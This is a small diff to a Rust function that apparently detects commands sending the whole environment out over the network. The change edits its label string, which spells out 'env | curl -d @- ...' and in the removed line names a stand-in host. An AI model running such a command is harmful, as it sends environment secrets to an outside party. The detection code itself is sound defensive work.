@@ -250,5 +250,5 @@ pub(crate) fn environment_sent(ps: &[Piece]) -> Option<String> {
         }
         _ => false,
     });
-    (whole_env && sends).then(|| "env | curl -d @- http://the.line.s/destination".to_string())
+    (whole_env && sends).then(|| "env | curl -d @- URL".to_string())
 }
